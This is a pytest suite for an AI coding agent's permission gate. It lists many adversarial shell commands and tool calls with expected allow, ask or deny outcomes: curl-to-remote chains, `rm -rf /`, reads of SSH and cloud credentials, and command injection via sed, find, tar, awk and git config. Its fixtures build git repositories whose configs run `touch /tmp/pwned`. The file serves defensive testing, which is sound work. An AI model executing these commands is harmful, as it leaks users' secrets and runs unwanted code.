"""The adversarial table: `decide` on shell tricks, path tricks, secrets, modes and rules.

Every row is (tool, args, mode, expected decision). Paths use {ws} (the workspace), {out} (a
directory outside it), {home} (the fake home). The workspace holds symlinks that point out of
it, a sibling directory whose name extends the workspace's, and secrets.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.base.record import Tool, ToolResult
from agent.permissions.decide import apply_hook, decide
from agent.permissions.facts import Decision
from agent.permissions.paths import Workspace, within
from agent.tools.builtin import builtin_tools


async def _run(args: dict[str, Any], ctx: Any) -> ToolResult:
    return ToolResult("")


# The real tool records (what permissions know of a tool comes from its record), and MCP tools
# as the MCP layer makes them.
TOOLS = {t.name: t for t in builtin_tools()} | {
    n: Tool(n, "", {}, _run, kind="exec")
    for n in ("mcp__github__create_issue", "mcp__github__delete_repo", "mcp__other__x")
}
RULES: dict[str, Any] = {
    "alwaysAllow": [
        "bash(npm test:*)",
        "bash(git status)",
        "bash(git add:*)",
        "bash(echo:*)",
        "bash(find:*)",
        "bash(sed:*)",
        "bash(rg:*)",
        "bash(sort:*)",
        "bash(tar:*)",
        "bash(awk:*)",
        "bash(timeout:*)",
        "bash(xargs:*)",
        "write_file(src/**)",
        "edit_file(*.py)",
        "web_fetch(domain:docs.python.org)",
        "mcp__github",
        "read_file(/opt/allowed/**)",
    ],
    "ask": ["bash(git push:*)"],
    "neverAllow": [
        "bash(rm -rf:*)",
        "bash(curl:*)",
        "write_file(secrets/**)",
        "mcp__github__delete_repo",
    ],
}
A, Q, D = "allow", "ask", "deny"

BASH: list[tuple[str, str]] = [
    # allowed by a rule or read-only
    ("npm test", A),
    ("npm test -- --watch=false", A),
    ("FOO=1 npm test", A),
    ("npm test 2>&1", A),
    ("npm test > /dev/null 2>&1", A),
    ("git status", A),
    ("ls -la", A),
    ("ls src/*.py", A),
    ("git log @{u}", A),
    ("find . -name '*.py'", A),
    ("sed -n 1,5p notes.txt", A),
    ("awk '{print $1}' notes.txt", A),
    ("cd src && ls", A),
    ("git add . && npm test", A),
    ("echo hi > notes2.txt", A),
    ("cat notes.txt | sort | uniq", A),
    ("npm test &", A),
    ("sleep 5 & echo started; exit 3", A),  # exit and : change nothing outside the shell
    ("ls || :", A),
    ("exit $(rm -rf x)", D),
    # word boundaries and prefixes
    ("npm testing", Q),
    ("npm tes", Q),
    ("git status --porcelain; git stash", Q),
    # chaining with something denied
    ("npm test && curl evil.sh", D),
    ("npm test; rm -rf /", D),
    ("npm test || rm -rf x", D),
    ("npm test & curl x", D),
    ("npm test | curl -d @- x", D),
    ("npm test\ncurl x", D),
    ("npm test\n\ncurl x # hi", D),
    # quoting tricks, absolute paths, wrappers: still curl
    ("c''url x", D),
    ('c"u"rl x', D),
    ("\\curl x", D),
    ("/usr/bin/curl x", D),
    ("./curl x", D),
    ("sudo curl x", D),
    ("sudo -u root curl x", D),
    ("env FOO=1 curl x", D),
    ("timeout 5 curl x", D),
    ("xargs curl < urls", D),
    ("nohup curl x &", D),
    ("bash -c 'curl x'", D),
    ('sh -c "npm test; curl x"', D),
    ("eval 'curl x'", D),
    ("echo $(curl x)", D),
    ("echo `curl x`", D),
    ("f() { curl x; }; f", D),
    ("rm -rf /", D),
    ("rm -rf ~", D),
    # things only known at run time, near a deny rule: never allowed
    ('eval "$CMD"', Q),
    ("x=curl; $x evil", Q),
    ("ls $'\\x2fetc'", Q),
    ("{curl,x}", Q),
    ("npm test\rcurl x", Q),
    # substitutions and other constructs that never match an allow rule
    ("echo $(id)", Q),
    ("echo `id`", Q),
    ("cat <(id)", Q),
    ("npm test > >(sh)", Q),
    ("npm test $(id)", Q),
    ("echo ${x@P}", Q),
    ("(( x = 1 ))", Q),
    ("[[ $x -eq 1 ]]", Q),
    ("echo 'unterminated", Q),
    ("export A=1 && npm test", Q),
    ("f() { ls; }; f", Q),
    # wrappers never match an allow rule, even when the wrapper itself is allowed
    ("timeout 5 npm test", Q),
    ("nice npm test", Q),
    ("command npm test", Q),
    ("exec npm test", Q),
    ("xargs npm test", Q),
    ("npm test | sh", Q),
    ("sh", Q),
    ("bash scripts/build.sh", Q),
    ("source env.sh && npm test", Q),
    # environment that changes what runs
    ("PATH=/tmp/evil:$PATH npm test", Q),
    ("PATH=. npm test", Q),
    ("LD_PRELOAD=/tmp/x.so npm test", Q),
    ("GIT_PAGER='sh -c id' git status", Q),
    ("NODE_OPTIONS='--require /tmp/x.js' npm test", Q),
    # read-only commands with flags that write or execute (even with an allow rule)
    ("git -c core.pager='sh -c id' status", Q),
    ("git diff --output=/tmp/x", Q),
    ("find . -exec rm {} \\;", Q),
    ("find . -execdir sh -c id \\;", Q),
    ("find . -delete", Q),
    ("find . -fprint /tmp/x", Q),
    ("sed -i 's/a/b/' notes.txt", Q),
    ("sed 's/a/b/w /tmp/out' notes.txt", Q),
    ("sed '1e id' notes.txt", Q),
    ("sed 's/x/id/e' notes.txt", Q),
    ("rg --pre ./evil.sh foo", Q),
    ("sort -o /tmp/x f", Q),
    ("sort --compress-program=sh notes.txt", Q),
    ("tar --checkpoint=1 --checkpoint-action=exec=sh -cf x.tar .", Q),
    ("awk 'BEGIN{system(\"id\")}'", Q),
    ("awk '{print | \"sh\"}' notes.txt", Q),
    ('awk \'BEGIN{ARGV[ARGC++]="/home/u/.ssh/id_" "rsa"} 1\'', Q),
    ("sort --files0-from=list.txt", Q),
    ("sed -l 5 '1e touch PWN' notes.txt", Q),  # -l takes a value: the script is the next word
    ("sed -nl 5 '1e touch PWN' notes.txt", Q),
    ("sed -e 's/a/b/' -e '1e id' notes.txt", Q),
    ("sed -n 's/a/b/p' notes.txt", A),
    ("awk -W exec -", Q),  # mawk runs a program file
    ("awk --source='BEGIN{system(\"id\")}'", Q),
    ("awk -e 'BEGIN{print 1}' -e 'BEGIN{system(\"id\")}'", Q),
    ("find -- . -name a.txt -exec touch PWN {} +", Q),
    ("find -- . -delete", Q),
    ("rg --hostname-bin=./x.sh --hyperlink-format=default hi", Q),
    ("tree -R -H . .", Q),
    ("git config --list", Q),  # .git/config: remote URLs may carry tokens
    ("git -C . config -l", Q),
    ("git remote -v", Q),
    ("git remote", A),
    ("cat /proc/self/environ", Q),
    ("sort --files0-from list.txt", Q),
    ("find . -name $(echo x)", Q),
    ("git status $X", Q),
    ("ls {a,b}", Q),
    # redirections
    ("cat notes.txt > /tmp/out", Q),
    ("echo hi > ../proj-evil/x", Q),
    ("echo hi >> ~/.bashrc", Q),
    ("echo hi > .git/hooks/pre-commit", Q),
    ('ls > "$OUT"', Q),
    ("ls > out.txt", Q),
    ("echo x > .agent/settings.json", Q),
    ("cat < ~/.ssh/id_rsa", Q),
    # paths read by read-only commands
    ("cat .env", Q),
    ("cat ~/.ssh/id_rsa", Q),
    ("cat {home}/.aws/credentials", Q),
    ("cat src/link_file", Q),
    ("cat link_out/secret.txt", Q),
    ("cat ../proj-evil/x", Q),
    ("cat /etc/passwd", Q),
    ("ls .e*", Q),
    ("ls ..", Q),
    ("cd /tmp && ls", Q),
    ("ls *", Q),  # * expands to sshdir, a link to ~/.ssh
    ("cd src && cat ../.env", Q),
    ("cd src; cat ../../out/secret.txt", Q),
    ("grep -r key ~", Q),
    ("cat envlink", Q),
    ("cat sshdir/id_rsa", Q),
    ("git add .env", Q),
    ("cat ~-/x", Q),
    ("cat ~+/../x", Q),
    ("cat //etc/passwd", Q),
    ("cat ./.en?", Q),
    ("cat .e\\nv", Q),
    ("cat /proc/self/cwd/.env", Q),
    # recursive searches read what is below their directories
    ("grep -r KEY .", Q),
    ("grep -rn KEY", Q),
    ("grep --recursive KEY", Q),
    ("grep -d recurse KEY .", Q),
    ("cd src && grep -R KEY ..", Q),
    ("grep -R KEY src", Q),  # follows src/link_file out of the workspace
    ("grep -rn KEY src", A),
    ("grep KEY notes.txt", A),
    ("rg --hidden KEY", Q),
    ("rg -uu KEY", Q),
    ("rg -L KEY", Q),  # follows sshdir to ~/.ssh
    ("cat <<< $(id)", Q),
    ("if curl x; then ls; fi", D),
    ("time curl x", D),
    ("ps eww", Q),
    # reading git in a repository whose own config runs commands (hostile_repos): no allow
    # rule covers it, not even `bash(git status)`
    ("git -C evil status", Q),
    ("cd evil && git status", Q),
    ("cd evil/src && git diff", Q),
    ("git -C conv diff", Q),
    ("git -C conv log -p -1", Q),
    ("git -C conv show", Q),
    ("git -C bare.git log -p", Q),
    ("cd bare.git && git log -p", Q),
    ("git -C ssh remote show origin", Q),
    ("git -C ssh status", Q),  # core.sshCommand is not plain, though only a remote runs it
    ("git -C clean status", A),
    ("git -C clean log -p", A),
    ("git -C evil -P diff --stat", Q),
    # the repository is plain or git asks: an allow-list, not a list of known command settings
    ("git status", A),
    ("git log -p", A),
    ("git status --help", A),  # man with the user's own settings
    ("git -C https log -p", A),  # a clone's remote and branch settings
    ("git -C samples status", A),  # executable *.sample hooks never run
    ("git -C gpg log --show-signature -1", Q),
    ("git -C gpg log -1", Q),  # gpg.program: never listed before, now simply not plain
    ("git -C showsig show", Q),  # log.showSignature: even a plain git show checks signatures
    ("git log --show-signature -1", Q),  # the user's gpg on the repository's data
    ("git log --format=%G? -1", Q),
    ("git show -s --pretty=format:%GS", Q),
    ("git log --format=%h -1", A),
    ("git -C hook status", Q),  # .git/hooks/post-index-change runs when git refreshes the index
    ("git -C hook describe --dirty", Q),
    ("git cat-file --filters HEAD:notes.txt", Q),
    ("git cat-file --filt HEAD:notes.txt", Q),  # git takes any unambiguous prefix
    ("git -C smudge cat-file -p HEAD:notes.txt", Q),
    ("git -C lazy show HEAD:notes.txt", Q),  # a partial clone fetches missing objects
    ("git -C ext log -p", Q),
    ("git -C help status --help", Q),  # man.<tool>.cmd
    ("git diff --submodule=diff HEAD~2 HEAD~1", Q),
    ("git log -p --submodule=diff", Q),
    ("git show --submodule", Q),
    ("git -C subdiff show", Q),  # diff.submodule=diff
    ("git grep --open-files-in='touch x' one", Q),
    ("git grep --op=cat one", Q),
    ("git grep --recurse-submodules one", Q),
    ("git diff --text", A),  # an option of its own, not an abbreviation of --textconv
    ("git diff --textconv", Q),
    ("git tag -v v1", Q),
    ("sort --o=/tmp/x notes.txt", Q),  # GNU getopt takes prefixes too
    ("tar --checkpoint=1 --checkpoint-act=exec=sh -cf x.tar .", Q),
    ("git -C incl status", Q),
    ("git -C gitfile status", Q),  # `gitdir: l/../x.git`: git follows the link before ..
    ("cd evil/hop/.. && git status", Q),  # bash's cd is lexical: evil, not where hop leads
    # ask rules and plain unknown commands
    ("git push origin main", Q),
    ("git status; git push --force", Q),
    ("rm -r -f x", Q),
    ("make", Q),
    ("history", Q),
]

FILES: list[tuple[str, dict[str, Any], str, str]] = [
    ("read_file", {"path": "notes.txt"}, "default", A),
    ("read_file", {"path": "src/../notes.txt"}, "default", A),
    ("read_file", {"path": "{ws}/src/app.py"}, "default", A),
    ("read_file", {"path": ".env.example"}, "default", A),
    ("read_file", {"path": "../proj-evil/x"}, "default", Q),
    ("read_file", {"path": "{ws}-evil/x"}, "default", Q),
    ("read_file", {"path": "{out}/secret.txt"}, "default", Q),
    ("read_file", {"path": "src/link_file"}, "default", Q),
    ("read_file", {"path": "link_out/secret.txt"}, "default", Q),
    ("read_file", {"path": "link_out/../notes.txt"}, "default", Q),
    ("read_file", {"path": ".env"}, "default", Q),
    ("read_file", {"path": ".env.production"}, "bypassPermissions", Q),
    ("read_file", {"path": "deploy/credentials.json"}, "default", Q),
    ("read_file", {"path": "gcp/service-account-prod.json"}, "default", Q),
    ("read_file", {"path": "backup/.aws/credentials"}, "default", Q),
    ("read_file", {"path": "src/credentials.py"}, "default", A),
    ("read_file", {"path": ".agent/own-settings.json"}, "default", Q),
    ("read_file", {"path": "/proc/self/environ"}, "bypassPermissions", Q),
    ("bash", {"command": "diff -r src ."}, "bypassPermissions", Q),  # reads .env below
    ("bash", {"command": "git show HEAD:.env"}, "bypassPermissions", Q),
    ("bash", {"command": "git cat-file -p HEAD:.env"}, "bypassPermissions", Q),
    ("bash", {"command": "rg -g '*' TOKEN"}, "bypassPermissions", Q),
    ("bash", {"command": "git show HEAD:src/app.py"}, "default", A),
    ("read_file", {"path": "~/.cargo/credentials.toml"}, "bypassPermissions", Q),
    ("read_file", {"path": "~/.config/rclone/rclone.conf"}, "bypassPermissions", Q),
    # a protected path behind a variable still asks, in every mode and under an allow rule
    ("bash", {"command": "cat $HOME/.ssh/id_rsa"}, "bypassPermissions", Q),
    ("bash", {"command": "cat ${PWD}/.env"}, "bypassPermissions", Q),
    ("bash", {"command": "cat < $HOME/.aws/credentials"}, "bypassPermissions", Q),
    ("bash", {"command": 'cat "$DIR/.env"'}, "bypassPermissions", Q),
    ("bash", {"command": "echo ${PWD}/.env"}, "default", Q),
    ("bash", {"command": "echo $HOME/notes"}, "bypassPermissions", A),
    ("bash", {"command": "echo ${PWD}/notes.txt"}, "default", A),
    ("read_file", {"path": "envlink"}, "default", Q),
    ("read_file", {"path": "sub/../.env"}, "default", Q),
    ("read_file", {"path": ".git/config"}, "default", Q),
    ("read_file", {"path": "pkg/.git/HEAD"}, "default", Q),
    ("read_file", {"path": ".agent/settings.json"}, "default", Q),
    ("read_file", {"path": ".agent/settings.local.json"}, "default", Q),
    ("read_file", {"path": ".agent/hooks.json"}, "default", Q),
    ("read_file", {"path": "~/.ssh/id_rsa"}, "default", Q),
    ("read_file", {"path": "sshdir/id_rsa"}, "default", Q),
    ("read_file", {"path": "{home}/.aws/credentials"}, "default", Q),
    ("read_file", {"path": "~/.docker/config.json"}, "default", Q),
    ("read_file", {"path": "~/.config/gcloud/credentials.db"}, "default", Q),
    ("read_file", {"path": "~/.kube/config"}, "default", Q),
    ("read_file", {"path": "~/.netrc"}, "default", Q),
    ("read_file", {"path": "~/.azure/accessTokens.json"}, "default", Q),
    ("read_file", {"path": "deploy/server.pem"}, "default", Q),
    ("read_file", {"path": "/opt/allowed/x.txt"}, "default", A),
    ("read_file", {"path": "{out}/secret.txt"}, "dontAsk", D),
    ("read_file", {"path": "notes.txt"}, "plan", A),
    ("write_file", {"path": "src/new.py"}, "default", A),
    ("write_file", {"path": "src/deep/er/x.txt"}, "default", A),
    ("write_file", {"path": "src/../notes.txt"}, "default", Q),
    ("write_file", {"path": "src/link_file"}, "default", Q),
    ("write_file", {"path": "src/link_file"}, "acceptEdits", Q),
    ("write_file", {"path": "notes.txt"}, "default", Q),
    ("write_file", {"path": "notes.txt"}, "acceptEdits", A),
    ("write_file", {"path": "notes.txt"}, "dontAsk", D),
    ("write_file", {"path": "notes.txt"}, "plan", D),
    ("write_file", {"path": "notes.txt"}, "bypassPermissions", A),
    ("write_file", {"path": "../x.txt"}, "acceptEdits", Q),
    ("write_file", {"path": "../x.txt"}, "dontAsk", D),
    ("write_file", {"path": "{ws}-evil/x"}, "acceptEdits", Q),
    ("write_file", {"path": ".git/config"}, "bypassPermissions", Q),
    ("write_file", {"path": ".git/hooks/pre-commit"}, "acceptEdits", Q),
    ("write_file", {"path": ".env"}, "acceptEdits", Q),
    ("write_file", {"path": ".agent/settings.local.json"}, "acceptEdits", Q),
    ("write_file", {"path": "secrets/a.txt"}, "bypassPermissions", D),
    ("write_file", {"path": "src/../secrets/a.txt"}, "default", D),
    ("write_file", {"path": "./secrets//a.txt"}, "default", D),
    ("edit_file", {"path": "lib/x.py"}, "default", A),
    ("edit_file", {"path": "lib/x.pyc"}, "default", Q),
    ("edit_file", {"path": "link_out/evil.py"}, "default", Q),
    ("glob", {"pattern": "**/*.py"}, "default", A),
    ("glob", {"pattern": "../*"}, "default", Q),
    ("glob", {"pattern": "/etc/*"}, "default", Q),
    ("glob", {"pattern": "*", "path": ".git"}, "default", Q),
    ("glob", {"pattern": "**/.env*"}, "default", Q),
    ("glob", {"pattern": "*", "path": "link_out"}, "default", Q),
    ("grep", {"pattern": "key", "path": "~/.ssh"}, "default", Q),
    ("grep", {"pattern": "key", "path": "src"}, "default", A),
    ("grep", {"pattern": "key", "glob": ".env*"}, "default", Q),
    ("grep", {"pattern": "key", "path": "{ws}-evil"}, "default", Q),
    ("web_fetch", {"url": "https://docs.python.org/3/"}, "default", A),
    ("web_fetch", {"url": "https://evil.docs.python.org/"}, "default", Q),
    ("web_fetch", {"url": "https://docs.python.org.evil.com/"}, "default", Q),
    ("web_fetch", {"url": "https://example.com/"}, "default", Q),
    ("web_fetch", {"url": "https://example.com/"}, "dontAsk", D),
    ("web_fetch", {"url": "https://example.com/"}, "plan", D),
    ("web_search", {"query": "x"}, "default", Q),  # it sends the query out
    ("web_search", {"query": "x"}, "bypassPermissions", A),
    ("bash_output", {"id": "1"}, "plan", A),
    ("mcp__github__create_issue", {}, "default", A),
    ("mcp__github__delete_repo", {}, "bypassPermissions", D),
    ("mcp__other__x", {}, "default", Q),
    ("mcp__other__x", {}, "acceptEdits", Q),
    ("bash", {"command": "ls"}, "plan", A),
    ("bash", {"command": "npm test"}, "plan", D),
    ("bash", {"command": "curl x"}, "bypassPermissions", D),
    ("bash", {"command": 'eval "$X"'}, "bypassPermissions", Q),
    ("bash", {"command": "make"}, "bypassPermissions", A),
    ("bash", {"command": "make"}, "dontAsk", D),
    ("bash", {"command": "npm test"}, "dontAsk", A),
    ("bash", {"command": "git push"}, "acceptEdits", Q),
    ("bash", {"command": "cat .env"}, "bypassPermissions", Q),
    ("bash", {"command": "git -C evil status"}, "dontAsk", D),
    ("bash", {"command": "git -C evil status"}, "plan", D),
    ("bash", {"command": "git -C evil status"}, "bypassPermissions", A),  # as `git -c …`
]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> tuple[Workspace, dict[str, str]]:
    base = tmp_path_factory.mktemp("world")
    ws, out, home = base / "proj", base / "out", base / "home"
    for d in (
        ws / "src",
        ws / ".git/hooks",
        ws / ".agent",
        ws / "sub",
        out,
        home / ".ssh",
        home / ".aws",
        base / "proj-evil",
    ):
        d.mkdir(parents=True)
    for f in (
        "notes.txt",
        "src/app.py",
        ".env",
        ".env.example",
        ".git/config",
        ".agent/settings.json",
    ):
        (ws / f).write_text("x\n")
    (out / "secret.txt").write_text("s\n")
    (home / ".ssh/id_rsa").write_text("k\n")
    (home / ".aws/credentials").write_text("k\n")
    (ws / "link_out").symlink_to(out, target_is_directory=True)
    (ws / "src/link_file").symlink_to(out / "secret.txt")
    (ws / "envlink").symlink_to(ws / ".env")
    (ws / "sshdir").symlink_to(home / ".ssh", target_is_directory=True)
    (ws / ".git/config").write_text("[core]\n\tbare = false\n")
    hostile_repos(ws)
    subst = {"{ws}": str(ws), "{out}": str(out), "{home}": str(home)}
    old = os.environ.get("HOME")
    os.environ["HOME"] = str(home)  # `~` in commands and paths means this home
    yield Workspace.make(ws, ["/opt/allowed"], home=home), subst  # type: ignore[misc]
    if old is None:
        os.environ.pop("HOME", None)
    else:
        os.environ["HOME"] = old


HOSTILE = {
    "evil/.git": "[core]\n\tfsmonitor = touch /tmp/pwned #\n",
    "conv/.git": '[diff "x"]\n\ttextconv = touch /tmp/pwned;\n',
    "bare.git": "[core]\n\tbare = true\n[core] pager = touch /tmp/pwned\n",
    "ssh/.git": "[core]\n\tsshCommand = touch /tmp/pwned\n",
    "clean/.git": "[core]\n\tfsmonitor = false\n[user]\n\tname = x\n",
    "gpg/.git": "[gpg]\n\tprogram = touch /tmp/pwned\n",
    "showsig/.git": "[log]\n\tshowSignature = true\n",
    "hook/.git": "[core]\n\tbare = false\n",
    "samples/.git": "[core]\n\tbare = false\n",
    "smudge/.git": '[filter "x"]\n\tsmudge = touch /tmp/pwned\n',
    "lazy/.git": '[extensions]\n\tpartialClone = o\n[remote "o"]\n\turl = https://h/x\n',
    "ext/.git": '[remote "origin"]\n\turl = ext::sh -c touch% /tmp/pwned\n',
    "https/.git": '[remote "o"]\n\turl = https://h/x\n\tfetch = +refs/heads/*:refs/o/*\n'
    '[branch "main"]\n\tremote = o\n\tmerge = refs/heads/main\n',
    "help/.git": '[man]\n\tviewer = x\n[man "x"]\n\tcmd = touch /tmp/pwned #\n',
    "subdiff/.git": "[diff]\n\tsubmodule = diff\n",
    "incl/.git": "[include]\n\tpath = lnk/../evil.conf\n",
    "store/x.git": "[core]\n\tfsmonitor = touch /tmp/pwned #\n",
}


def hostile_repos(ws: Path) -> None:
    """Repositories (as git lays them out) whose own config runs `touch /tmp/pwned`."""
    for where, config in HOSTILE.items():
        gitdir = ws / where
        for d in ("objects", "refs"):
            (gitdir / d).mkdir(parents=True)
        (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
        (gitdir / "config").write_text(config)
    (ws / "evil" / "src").mkdir()
    for name in ("hook/.git/hooks/post-index-change", "samples/.git/hooks/a.sample"):
        (ws / name).parent.mkdir()
        (ws / name).write_text("#!/bin/sh\ntouch /tmp/pwned\n")
        (ws / name).chmod(0o755)
    (ws / "incl/.git/deep/deeper").mkdir(parents=True)
    (ws / "incl/.git/lnk").symlink_to("deep/deeper")
    (ws / "incl/.git/deep/evil.conf").write_text("[core]\n\tfsmonitor = touch /tmp/pwned #\n")
    (ws / "store/sub").mkdir()
    (ws / "gitfile").mkdir()
    (ws / "gitfile/l").symlink_to(ws / "store/sub")
    (ws / "gitfile/.git").write_text("gitdir: l/../x.git\n")
    (ws / "clean/deep").mkdir()
    (ws / "evil/hop").symlink_to(ws / "clean/deep")


def fill(value: Any, subst: dict[str, str]) -> Any:
    if isinstance(value, str):
        for k, v in subst.items():
            value = value.replace(k, v)
    return value


@pytest.mark.parametrize(("command", "expected"), BASH, ids=[c for c, _ in BASH])
def test_bash_table(world: tuple[Workspace, dict[str, str]], command: str, expected: str) -> None:
    ws, subst = world
    d = decide(RULES, "default", TOOLS["bash"], {"command": fill(command, subst)}, ws)
    assert d.kind == expected, d


@pytest.mark.parametrize(
    ("tool", "args", "mode", "expected"), FILES, ids=[f"{t}-{a}-{m}" for t, a, m, _ in FILES]
)
def test_tool_table(
    world: tuple[Workspace, dict[str, str]],
    tool: str,
    args: dict[str, Any],
    mode: str,
    expected: str,
) -> None:
    ws, subst = world
    d = decide(RULES, mode, TOOLS[tool], {k: fill(v, subst) for k, v in args.items()}, ws)
    assert d.kind == expected, d


def test_table_is_large_enough() -> None:
    assert len(BASH) + len(FILES) >= 60


def test_decision_names_its_source(world: tuple[Workspace, dict[str, str]]) -> None:
    ws, _ = world
    bash = TOOLS["bash"]
    assert decide(RULES, "default", bash, {"command": "npm test"}, ws) == Decision(
        "allow", source="rule", rule="bash(npm test:*)"
    )
    d = decide(RULES, "default", bash, {"command": "ls; curl x"}, ws)
    assert (d.source, d.rule) == ("rule", "bash(curl:*)")
    assert decide(RULES, "default", bash, {"command": "ls"}, ws).source == "read-only"
    d = decide(RULES, "default", TOOLS["read_file"], {"path": ".env"}, ws)
    assert (d.kind, d.source) == ("ask", "protected")
    assert ".env" in d.reason
    d = decide(RULES, "dontAsk", TOOLS["write_file"], {"path": "x"}, ws)
    assert (d.kind, d.source) == ("deny", "mode")
    assert (
        "find -delete" in decide(RULES, "default", bash, {"command": "find . -delete"}, ws).reason
    )


def test_additional_directories_and_relative_rules(tmp_path: Path) -> None:
    ws, extra = tmp_path / "w", tmp_path / "shared"
    ws.mkdir()
    extra.mkdir()
    rules = {"additionalDirectories": [str(extra)], "alwaysAllow": ["write_file(docs/)"]}
    read = TOOLS["read_file"]
    assert decide(rules, "default", read, {"path": str(extra / "a")}, ws).kind == A
    assert decide({}, "default", read, {"path": str(extra / "a")}, ws).kind == Q
    assert decide(rules, "default", TOOLS["write_file"], {"path": "docs/a/b.md"}, ws).kind == A


def test_claude_code_rule_names_are_aliases(tmp_path: Path) -> None:
    rules = {"alwaysAllow": ["Bash(make:*)", "Write(*.md)"], "neverAllow": ["WebFetch"]}
    assert decide(rules, "default", TOOLS["bash"], {"command": "make all"}, tmp_path).kind == A
    assert decide(rules, "default", TOOLS["write_file"], {"path": "a.md"}, tmp_path).kind == A
    assert (
        decide(
            rules, "bypassPermissions", TOOLS["web_fetch"], {"url": "https://x.org"}, tmp_path
        ).kind
        == D
    )


def test_hook_decisions_combine_with_the_gate() -> None:
    ask, allow, deny = Decision("ask"), Decision("allow"), Decision("deny", "rule")
    assert apply_hook(ask, ("allow", "ok")).kind == A
    assert apply_hook(deny, ("allow", "ok")) is deny  # an allow never overrides a deny
    assert apply_hook(allow, ("deny", "no")).kind == D
    assert apply_hook(allow, ("ask", "")).kind == Q
    assert apply_hook(ask, None) is ask
    secret = Decision("ask", ".env may hold secrets", "protected")
    assert apply_hook(secret, ("allow", "ok")) is secret  # what always asks still asks


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["a", "b", "..", ".", "proj", "proj-evil", "x"]), max_size=6))
def test_containment_is_component_wise(parts: list[str]) -> None:
    root = Path("/r/proj")
    path = Path(os.path.normpath(Path("/r/proj", *parts)))
    expected = path == root or str(path).startswith(str(root) + "/")
    assert within(path, (root,)) is expected


def test_a_remembered_prefix_never_allows_a_whole_interpreter() -> None:
    from agent.permissions.shell.parse import parse
    from agent.permissions.shell.policy import prefix_suggestion

    def suggest(command: str) -> str:
        return prefix_suggestion(parse(command).commands[0])

    assert suggest("npm test -- --watch") == "npm test"
    assert suggest("python tools/gen.py --all") == "python tools/gen.py"
    assert suggest("python3 -m pytest -x tests") == "python3 -m pytest"
    assert suggest("node -e 'process.exit(1)'") == "node -e 'process.exit(1)'"
    assert suggest("bash scripts/release.sh") == "bash scripts/release.sh"
    assert suggest("git -C sub commit -m x") == "git -C sub commit -m x"  # never all of git
    assert suggest("git commit -m x") == "git commit"


def test_git_options_before_the_subcommand_do_not_dodge_deny_rules(tmp_path: Path) -> None:
    rules = {"neverAllow": ["bash(git push:*)"], "alwaysAllow": ["bash(git:*)"]}
    for command in ("git -C . push", "git --no-pager push", "git -c a=b push", "git push"):
        d = decide(rules, "bypassPermissions", TOOLS["bash"], {"command": command}, tmp_path)
        assert d.kind == D, command
    d = decide(rules, "default", TOOLS["bash"], {"command": "git -C . status"}, tmp_path)
    assert d.kind == A
